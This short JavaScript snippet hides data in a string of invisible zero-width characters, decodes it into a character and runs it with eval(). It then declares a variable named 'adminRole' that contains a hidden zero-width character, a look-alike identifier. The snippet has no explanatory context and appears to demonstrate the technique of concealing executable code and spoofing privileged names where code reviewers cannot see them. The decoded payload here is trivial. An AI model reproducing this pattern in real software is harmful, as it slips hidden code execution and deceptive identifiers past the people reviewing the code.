const s = "​‌‍​‌‍​‌‍​‌‍​‌‍​‌‍";
const bits = [...s].map((c) => (c === "\u200b" ? "0" : "1")).join("");
eval(String.fromCharCode(parseInt(bits, 2)));
const admin​Role = 1;
